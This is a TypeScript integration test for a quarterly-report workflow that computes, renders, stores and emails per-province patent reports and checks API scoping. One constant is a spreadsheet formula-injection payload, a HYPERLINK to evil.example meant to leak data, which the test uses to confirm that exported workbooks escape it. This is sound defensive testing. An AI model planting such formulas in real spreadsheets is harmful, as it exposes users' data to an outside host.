/**
 * The quarterly report on the local cloud: seeded counters for 2019Q3 (a quarter no other test
 * touches) in Gansu (620000, no other test's province), the workflow run through the API, the files
 * in s3rver, the emails in the outbox (.eml parsed back), re-run and resend, scopes and validation.
 */
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { GetExecutionHistoryCommand, StartExecutionCommand } from '@aws-sdk/client-sfn';
import { GetCommand, PutCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import ExcelJS from 'exceljs';
import { simpleParser } from 'mailparser';
import { beforeAll, describe, expect, it } from 'vitest';
import { withUsccCheck } from '../../schemas/codes/uscc.ts';
import {
  api,
  bucketName,
  clients,
  cloud,
  eventually,
  tableName,
  token,
  waitForExecution,
} from './helpers.ts';

const quarter = '2019Q3';
const province = '620000';
const hyperlink = '=HYPERLINK("http://evil.example/?leak","点此")';
const evil = withUsccCheck('12620000MB0000001');
const plain = withUsccCheck('12620000MB0000002');

async function statesEntered(executionArn: string) {
  const { sfn } = clients();
  const { events = [] } = await sfn.send(new GetExecutionHistoryCommand({ executionArn }));
  return events
    .filter((e) => e.type?.endsWith('StateEntered'))
    .map((e) => (e as { stateEnteredEventDetails?: { name?: string } }).stateEnteredEventDetails?.name);
}

async function marker(scope: string, sub: string) {
  const { documents } = clients();
  const { Item } = await documents.send(
    new GetCommand({
      TableName: tableName('core'),
      Key: { pk: `REPORT#${quarter}`, sk: `SENT#${scope}#${sub}` },
      ConsistentRead: true,
    }),
  );
  return Item;
}

async function eml(mailId: string) {
  const outbox = join(cloud().dataDir, 'outbox');
  return eventually(
    async () => {
      const file = (await readdir(outbox).catch(() => [] as string[])).find(
        (f) => f.includes(mailId) && f.endsWith('.eml'),
      );
      return file ? simpleParser(await readFile(join(outbox, file)), { keepCidLinks: true }) : undefined;
    },
    30_000,
    `the .eml of ${mailId}`,
  );
}

async function object(key: string) {
  const { s3 } = clients();
  const result = await s3.send(new GetObjectCommand({ Bucket: bucketName('reports'), Key: key }));
  return Buffer.from(await result.Body!.transformToByteArray());
}

describe('quarterly report', () => {
  let national: string;
  let gansu: string;
  let beijing: string;
  let firstRun: string;

  beforeAll(async () => {
    national = await token('national-admin', { sub: 'dev-national-admin', email: 'admin@patents.local' });
    gansu = await token('province-admin', { sub: 'dev-admin-620000', province });
    beijing = await token('province-admin', { sub: 'dev-admin-110000', province: '110000' });
    for (const [uscc, name] of [
      [evil, hyperlink],
      [plain, '兰州测试大学'],
    ] as const) {
      const created = await api('/v1/institutions', {
        method: 'POST',
        token: national,
        body: { uscc, name, provinceCode: province, kind: 'university' },
      });
      expect(created.status, created.text).toBe(201);
    }
    // Counters as the metrics consumer keeps them: gauges now, flows of the quarter.
    const { documents } = clients();
    const put = (Item: Record<string, unknown>) =>
      documents.send(new PutCommand({ TableName: tableName('metrics'), Item }));
    await put({
      pk: `NOW#PROV#${province}`,
      sk: `INST#${evil}`,
      'g.recorded': 10,
      'g.valid': 8,
      'g.inventoried': 6,
      'g.implemented': 4,
      'g.pool': 5,
    });
    await put({
      pk: `NOW#PROV#${province}`,
      sk: `INST#${plain}`,
      'g.recorded': 4,
      'g.valid': 4,
      'g.inventoried': 4,
    });
    await put({
      pk: `Q#${quarter}#PROV#${province}`,
      sk: `INST#${evil}`,
      'f.deals': 3,
      'f.licenseFilings': 2,
      'f.dealValueWan': 120,
    });
    await put({ pk: `Q#${quarter}#PROV#${province}`, sk: `INST#${plain}`, 'f.deals': 1 });
    // Beijing's admin opts out of the emails.
    const optOut = await api('/v1/admins/me/report-preferences', {
      method: 'PUT',
      token: beijing,
      body: { reportsOptOut: true },
    });
    expect(optOut.status, optOut.text).toBe(200);
  });

  it('rejects 2025Q5 and a future quarter with 400; a province admin may not start a run', async () => {
    for (const q of ['2025Q5', '2099Q1']) {
      const read = await api(`/v1/reports/${q}`, { token: national });
      expect(read.status, q).toBe(400);
      expect(read.json.error.code).toBe('VALIDATION_FAILED');
      const run = await api(`/v1/reports/${q}/run`, { method: 'POST', token: national, body: {} });
      expect(run.status, q).toBe(400);
    }
    expect((await api(`/v1/reports/${quarter}/run`, { method: 'POST', token: gansu, body: {} })).status).toBe(
      403,
    );
  });

  it('a run computes, renders, stores, emails and records every scope', { timeout: 180_000 }, async () => {
    const started = await api(`/v1/reports/${quarter}/run`, { method: 'POST', token: national, body: {} });
    expect(started.status, started.text).toBe(202);
    firstRun = started.json.executionArn;
    const execution = await waitForExecution(firstRun);
    expect(execution.status, execution.cause).toBe('SUCCEEDED');
    const output = JSON.parse(execution.output!);
    expect(output).toMatchObject({ quarter, failedScopes: 0, optedOut: 1, noEmail: 1 });

    const entered = await statesEntered(firstRun);
    expect(entered.slice(0, 5)).toEqual([
      'Prepare',
      'NationalCompute',
      'NationalRender',
      'NationalEmail',
      'Provinces',
    ]);
    expect(entered.slice(-3)).toEqual(['Record', 'AllScopesDone', 'Reported']);
    const provinces = entered.filter((s) => s === 'ProvinceEmail').length;
    expect(provinces).toBe(output.scopes - 1);
    expect(entered).not.toContain('ProvinceFailed');

    // The files of Gansu's report.
    const figures = JSON.parse((await object(`reports/${quarter}/${province}.figures.json`)).toString());
    expect(figures).toMatchObject({ quarter, hasData: true, figures: { deals: { value: 4 } } });
    const html = (await object(`reports/${quarter}/${province}.html`)).toString();
    expect(html).toContain('甘肃省');
    expect(html).toContain('data:image/png;base64,');
    expect(html).not.toMatch(/<script/i);
    const png = await object(`reports/${quarter}/${province}.png`);
    expect(png.subarray(1, 4).toString('latin1')).toBe('PNG');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await object(`reports/${quarter}/${province}.xlsx`)) as never);
    // Gansu's own sheets: no provinces sheet; its institutions below the title block (rows 1-5).
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      '甘肃省 概况 Overview',
      '甘肃省 机构 Institutions',
      '期限 Deadlines',
      '定义 Definitions',
    ]);
    const names = workbook.getWorksheet('甘肃省 机构 Institutions')!.getColumn(2).values.slice(6);
    expect(names).toContain(`'${hyperlink}`);
    expect(names).toContain('兰州测试大学');

    // The email to Gansu's admin: HTML, the workbook, the chart inline.
    const sent = await marker(province, 'dev-admin-620000');
    expect(sent).toMatchObject({ runId: firstRun, to: 'gansu-admin@patents.local' });
    const mail = await eml(sent!.mailId);
    expect(mail.subject).toContain(quarter);
    expect(mail.html).toContain('甘肃省');
    expect(mail.html).toMatch(/src="cid:[^"]+"/);
    const xlsx = mail.attachments.find((a) => a.filename?.endsWith('.xlsx'));
    const chart = mail.attachments.find((a) => a.contentType === 'image/png');
    expect(xlsx?.content.length).toBeGreaterThan(1000);
    expect(chart?.cid).toBeTruthy();
    expect(mail.html).toContain(`cid:${chart!.cid}`);

    // National report to both national admins; nobody in Beijing (opted out).
    expect(await marker('national', 'dev-national-admin')).toBeDefined();
    expect(await marker('national', 'dev-national-analyst')).toBeDefined();
    expect(await marker('110000', 'dev-admin-110000')).toBeUndefined();

    // The record: Guangdong's admin without email is skipped and recorded.
    const { documents } = clients();
    const { Item: guangdong } = await documents.send(
      new GetCommand({ TableName: tableName('core'), Key: { pk: `REPORT#${quarter}`, sk: 'SCOPE#440000' } }),
    );
    expect(guangdong!.recipients).toEqual(
      expect.arrayContaining([{ sub: 'dev-admin-440000-noemail', status: 'no-email' }]),
    );
    // A province with no data at all (no test writes Qinghai): a report that says so, no chart in the mail.
    const { Item: qinghai } = await documents.send(
      new GetCommand({ TableName: tableName('core'), Key: { pk: `REPORT#${quarter}`, sk: 'SCOPE#630000' } }),
    );
    expect(qinghai).toMatchObject({ hasData: false, scopeName: '青海省 630000', recipients: [] });
    expect((await object(`reports/${quarter}/630000.html`)).toString()).toContain('No data was recorded');
    const audit = await documents.send(
      new QueryCommand({
        TableName: tableName('core'),
        KeyConditionExpression: 'pk = :pk AND begins_with(sk, :a)',
        ExpressionAttributeValues: { ':pk': `REPORT#${quarter}`, ':a': 'AUDIT#' },
      }),
    );
    expect(audit.Items?.some((a) => a.action === 'report.recorded' && a.executionArn === firstRun)).toBe(
      true,
    );
  });

  it('an invalid run input ends in RunRejected, on the execution history', async () => {
    const { sfn } = clients();
    const arn = firstRun.replace(/:execution:([^:]+):.*$/, ':stateMachine:$1');
    const { executionArn } = await sfn.send(
      new StartExecutionCommand({ stateMachineArn: arn, input: JSON.stringify({ quarter: '2025Q5' }) }),
    );
    const execution = await waitForExecution(executionArn!);
    expect(execution).toMatchObject({ status: 'FAILED', error: 'InvalidReportRun' });
    expect(execution.cause).toContain('2025Q5');
    expect(await statesEntered(executionArn!)).toEqual(['Prepare', 'RunRejected']);
    // npm run job -- quarterly-report --quarter 2025Q5: refused before any workflow starts.
    const fired = await fetch(`${cloud().controlUrl}/_local/schedules/quarterly-report/fire`, {
      method: 'POST',
      body: JSON.stringify({ payload: { quarter: '2025Q5' } }),
    });
    const run = (await fired.json()) as { ok: boolean; error: string };
    expect(run.ok).toBe(false);
    expect(run.error).toContain('2025Q5');
  });

  it('the API: figures and presigned links in scope; another province is 404; lists are scoped', async () => {
    const report = await api(`/v1/reports/${quarter}`, { token: gansu });
    expect(report.status, report.text).toBe(200);
    expect(report.json).toMatchObject({ quarter, scope: province, hasData: true, sentTo: 1 });
    expect(report.json.figures.figures.deals.value).toBe(4);
    const download = await fetch(report.json.links.xlsx);
    expect(download.status).toBe(200);
    expect(
      Buffer.from(await download.arrayBuffer())
        .subarray(0, 2)
        .toString(),
    ).toBe('PK');
    expect((await fetch(report.json.links.html)).status).toBe(200);

    expect((await api(`/v1/reports/${quarter}?scope=${province}`, { token: beijing })).status).toBe(404);
    expect((await api(`/v1/reports/${quarter}?scope=${province}`, { token: national })).status).toBe(200);
    expect((await api(`/v1/reports/${quarter}`, { token: national })).json.scope).toBe('national');

    const mine = await api('/v1/reports?limit=5', { token: gansu });
    expect(mine.status).toBe(200);
    expect(mine.json.items.map((i: { scope: string }) => i.scope)).toEqual([province]);
    const all = await api('/v1/reports?limit=3', { token: national });
    expect(all.json.items).toHaveLength(3);
    expect(all.json.nextCursor).toBeTruthy();
    const next = await api(`/v1/reports?limit=3&cursor=${all.json.nextCursor}`, { token: national });
    expect(next.status).toBe(200);
    expect((await api(`/v1/reports?scope=${province}`, { token: beijing })).status).toBe(404);
  });

  it('a re-run replaces the report and emails nobody; the job with --resend emails again', {
    timeout: 240_000,
  }, async () => {
    const before = await marker(province, 'dev-admin-620000');
    const rerun = await api(`/v1/reports/${quarter}/run`, { method: 'POST', token: national, body: {} });
    expect(rerun.status).toBe(202);
    const second = await waitForExecution(rerun.json.executionArn);
    expect(second.status, second.cause).toBe('SUCCEEDED');
    expect(JSON.parse(second.output!)).toMatchObject({ queued: 0, failedScopes: 0 });
    expect(await marker(province, 'dev-admin-620000')).toEqual(before);
    const { documents } = clients();
    const { Item: record } = await documents.send(
      new GetCommand({
        TableName: tableName('core'),
        Key: { pk: `REPORT#${quarter}`, sk: `SCOPE#${province}` },
      }),
    );
    expect(record).toMatchObject({ runId: rerun.json.executionArn, sentTo: 1 });
    expect(record!.recipients).toEqual([
      {
        sub: 'dev-admin-620000',
        email: 'gansu-admin@patents.local',
        mailId: before!.mailId,
        status: 'already-sent',
      },
    ]);

    // npm run job -- quarterly-report --quarter 2019Q3 --resend
    const fired = await fetch(`${cloud().controlUrl}/_local/schedules/quarterly-report/fire`, {
      method: 'POST',
      body: JSON.stringify({ payload: { quarter, resend: true } }),
    });
    const run = (await fired.json()) as { ok: boolean; result: { executionArn: string } };
    expect(run.ok).toBe(true);
    const third = await waitForExecution(run.result.executionArn);
    expect(third.status, third.cause).toBe('SUCCEEDED');
    const output = JSON.parse(third.output!);
    expect(output.queued).toBeGreaterThanOrEqual(3);
    expect(output.alreadySent).toBe(0);
    const after = await marker(province, 'dev-admin-620000');
    expect(after!.runId).toBe(run.result.executionArn);
    expect(after!.mailId).not.toBe(before!.mailId);
    expect((await eml(after!.mailId)).subject).toContain(quarter);
  });
});
